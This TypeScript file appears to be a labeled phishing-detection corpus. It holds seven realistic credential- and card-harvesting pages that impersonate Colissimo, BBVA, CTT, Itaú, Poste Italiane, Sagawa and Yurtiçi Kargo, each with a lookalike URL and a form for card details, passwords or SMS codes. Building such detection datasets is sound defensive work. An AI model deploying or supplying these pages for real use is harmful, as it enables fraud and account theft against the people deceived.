import { type Entry } from '../entry.js';
import { baseCss, cookieBanner, doc, siteFooter, siteNav, svgLogo } from '../parts/d-parts.js';

/** Credential and card kits in German, French, Spanish, Portuguese, Italian, Japanese, Polish and Turkish. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-kit-fr-colissimo-frais',
  label: 'phishing',
  kind: 'courier-card-kit',
  url: 'https://colissimo-suivi.livraison-avis.fr-info.net/suivi/6A1928374650?lang=fr',
  body: doc({
    title: 'Colissimo – Suivi de votre colis',
    lang: 'fr',
    css: baseCss('#f9b200') + `.cl{background:#fff;border-bottom:3px solid #f9b200;padding:12px 28px}.c{max-width:600px;margin:24px auto}`,
    body: `<div class="cl"><img src="img/colissimo.png" alt="La Poste Colissimo" height="42"></div>
<div class="c"><h1 style="font-size:24px">Votre colis 6A1928374650 est en attente</h1><p>Nous n’avons pas pu livrer votre colis car l’adresse est incomplète. Merci de confirmer vos informations et de régler les frais de re-livraison (0,99 €).</p>
<form class="card" action="confirmer.php" method="post"><div class="form-group"><label>Adresse</label><input name="adr"></div><div class="form-group"><label>Code postal</label><input name="cp"></div><div class="form-group"><label>Téléphone</label><input name="tel"></div><div class="form-group"><label>Carte bancaire</label><input name="cb"></div><div class="form-group"><label>Expiration</label><input name="exp"></div><div class="form-group"><label>CVV</label><input name="cvv"></div><button class="btn btn-block" style="color:#000">Payer 0,99 €</button></form></div>
${siteFooter({ company: 'La Poste', cols: { Aide: ['Nous contacter', 'FAQ'], Légal: ['Mentions légales', 'Données personnelles', 'Cookies'] } })}`,
  }),
},

{
  id: 'd-kit-es-bbva-bloqueo-otp',
  label: 'phishing',
  kind: 'bank-kit-es',
  url: 'https://bbva-es.acceso-clientes-seguro.net/particulares/login/',
  body: doc({
    title: 'BBVA España | Acceso clientes',
    lang: 'es',
    css: baseCss('#004481') + `.b{background:#072146;padding:16px 30px}.lg{max-width:420px;margin:40px auto}`,
    body: `<div class="b"><img src="static/bbva-white.svg" alt="BBVA" height="28"></div>
<div class="lg card"><h1 style="font-size:22px">Hemos bloqueado temporalmente tu acceso</h1><p>Detectamos un inicio de sesión desde un dispositivo no reconocido (Madrid, iPhone 15). Identifícate para desbloquear tu cuenta.</p>
<form id="f1" method="post" action="api/acceso.php"><div class="form-group"><label>DNI / NIE / Pasaporte</label><input name="user"></div><div class="form-group"><label>Clave de acceso</label><input name="pass" type="password"></div><button class="btn btn-block">Entrar</button></form>
<form id="f2" method="post" action="api/otp.php" style="display:none"><div class="form-group"><label>Introduce el código SMS que te hemos enviado</label><input name="otp" maxlength="6"></div><button class="btn btn-block">Confirmar</button></form></div>
<script>document.getElementById('f1').addEventListener('submit',function(e){e.preventDefault();fetch(this.action,{method:'POST',body:new FormData(this)}).finally(function(){document.getElementById('f1').style.display='none';document.getElementById('f2').style.display='block'})});</script>`,
  }),
},

{
  id: 'd-kit-pt-ctt-encomenda',
  label: 'phishing',
  kind: 'courier-card-kit',
  url: 'https://ctt-pt.encomendas-pendentes.org/rastreio/',
  body: doc({
    title: 'CTT - Pagamento de portes',
    lang: 'pt-PT',
    css: baseCss('#df0024') + `.w{max-width:540px;margin:30px auto}`,
    body: `${siteNav({ brand: 'CTT', logo: '<img src="img/ctt.svg" alt="CTT Correios de Portugal" height="34">', links: ['Particulares', 'Empresas', 'Seguir objeto', 'Ajuda'] })}
<div class="w"><h1 style="font-size:24px">A sua encomenda aguarda pagamento</h1><p>Objeto <b>RR992017465PT</b> — Taxa alfandegária em dívida: <b>1,89 €</b></p>
<form class="card" method="post" action="pagar.php"><div class="form-group"><label>Nome</label><input name="nome"></div><div class="form-group"><label>NIF</label><input name="nif"></div><div class="form-group"><label>Número do cartão</label><input name="cartao"></div><div class="form-group"><label>Validade</label><input name="val"></div><div class="form-group"><label>CVV</label><input name="cvv"></div><button class="btn btn-block">Pagar</button></form></div>
${cookieBanner('pt')}`,
  }),
},

{
  id: 'd-kit-br-itau-token',
  label: 'phishing',
  kind: 'bank-kit-br',
  url: 'https://itau-atualizacao.token-seguranca-app.com.br.acesso-pf.online/',
  body: doc({
    title: 'Itaú - Atualização cadastral do iToken',
    lang: 'pt-BR',
    css: baseCss('#ec7000') + `body{background:#efe9e5}.t{background:#ec7000;padding:14px 30px}.m{max-width:420px;margin:40px auto}`,
    body: `<div class="t"><img src="img/logo-itau.png" alt="Itaú" height="44"></div>
<div class="m card"><h1 style="font-size:22px">Seu iToken expirou</h1><p>Para continuar utilizando o app e o internet banking, sincronize seu dispositivo de segurança até hoje às 23h59.</p>
<form method="post" action="sync.php"><div class="form-group"><label>Agência</label><input name="ag" maxlength="4"></div><div class="form-group"><label>Conta</label><input name="cc" maxlength="7"></div><div class="form-group"><label>CPF</label><input name="cpf"></div><div class="form-group"><label>Senha eletrônica (6 dígitos)</label><input name="senha" type="password" maxlength="6"></div><div class="form-group"><label>Senha do cartão (4 dígitos)</label><input name="senha4" type="password" maxlength="4"></div><button class="btn btn-block">Sincronizar</button></form></div>`,
  }),
},

{
  id: 'd-kit-it-poste-bancoposta',
  label: 'phishing',
  kind: 'bank-kit-it',
  url: 'https://bancoposta-verifica.posteitaliane-sicurezza.it.area-clienti.info/login',
  body: doc({
    title: 'Poste Italiane - Accedi',
    lang: 'it',
    css: baseCss('#0047bb') + `.pi{background:#fff;padding:12px 30px;border-bottom:1px solid #ddd}.pi span{color:#0047bb;font-weight:700;font-size:22px}.w{max-width:440px;margin:36px auto}`,
    body: `<div class="pi"><span>Poste<b style="color:#ffd200">Italiane</b></span></div>
<div class="w card"><h1 style="font-size:22px">Accedi a BancoPosta</h1><p>Gentile cliente, per motivi di sicurezza la tua carta Postepay è stata sospesa. Accedi per verificare la tua identità e sbloccarla.</p>
<form method="post" action="verifica.php"><div class="form-group"><label>Nome utente</label><input name="u"></div><div class="form-group"><label>Password</label><input name="p" type="password"></div><div class="form-group"><label>Numero carta Postepay</label><input name="carta"></div><div class="form-group"><label>Scadenza</label><input name="scad"></div><div class="form-group"><label>CVV</label><input name="cvv"></div><div class="form-group"><label>Codice PosteID</label><input name="posteid" type="password"></div><button class="btn btn-block">Accedi</button></form></div>
${cookieBanner('it')}`,
  }),
},

{
  id: 'd-kit-jp-sagawa-fuzai',
  label: 'phishing',
  kind: 'courier-kit-jp',
  url: 'https://sagawa-exp.fuzai-renraku.com/saitaihai/index.html',
  body: doc({
    title: '佐川急便 - 再配達受付',
    lang: 'ja',
    css: baseCss('#00307f') + `.s{max-width:500px;margin:24px auto}`,
    body: `${siteNav({ brand: '佐川急便', logo: '<img src="images/logo_sagawa.png" alt="佐川急便株式会社" height="36">', links: ['お問い合わせ', '送る', '受け取る', '法人のお客様'] })}
<div class="s card"><h1 style="font-size:20px">お荷物のお届けにあがりましたが不在のため持ち帰りました</h1><p>お問い合わせ送り状番号：3601-2948-1127</p><p>再配達をご希望の場合は、下記フォームよりお客様情報をご入力ください。再配達手数料 330円が発生します。</p>
<form action="pay.php" method="post"><div class="form-group"><label>お名前</label><input name="name"></div><div class="form-group"><label>電話番号</label><input name="tel"></div><div class="form-group"><label>ご住所</label><input name="addr"></div><div class="form-group"><label>カード番号</label><input name="card"></div><div class="form-group"><label>有効期限</label><input name="exp"></div><div class="form-group"><label>セキュリティコード</label><input name="cvv"></div><button class="btn btn-block">次へ</button></form></div>`,
  }),
},

{
  id: 'd-kit-tr-yurtici-kargo',
  label: 'phishing',
  kind: 'courier-card-kit',
  url: 'https://yurtici-kargo.gonderi-takip-tr.com/takip/odeme',
  body: doc({
    title: 'Yurtiçi Kargo | Gönderi Takip',
    lang: 'tr',
    css: baseCss('#004a99') + `.w{max-width:520px;margin:30px auto}`,
    body: `${siteNav({ brand: 'Yurtiçi Kargo', logo: svgLogo('Yurtiçi Kargo', '#ffc20e', 'square'), links: ['Gönderi Takip', 'Şubeler', 'Kurumsal', 'İletişim'] })}
<div class="w card"><h1 style="font-size:22px">Adres bilgileriniz eksik</h1><p>Gönderiniz (Takip No: 219384756102) adres bilgisi eksik olduğu için dağıtıma çıkarılamadı. 24 saat içinde güncellenmezse iade edilecektir. Adres güncelleme ücreti: <b>12,50 TL</b></p>
<form method="post" action="odeme.php"><div class="form-group"><label>Ad Soyad</label><input name="ad"></div><div class="form-group"><label>Telefon</label><input name="tel"></div><div class="form-group"><label>Adres</label><input name="adres"></div><div class="form-group"><label>Kart Numarası</label><input name="kart"></div><div class="form-group"><label>Ay/Yıl</label><input name="ay"></div><div class="form-group"><label>CVV</label><input name="cvv"></div><button class="btn btn-block">Ödeme Yap</button></form></div>
${siteFooter({ company: 'Yurtiçi Kargo Servisi A.Ş.' })}`,
  }),
},

];
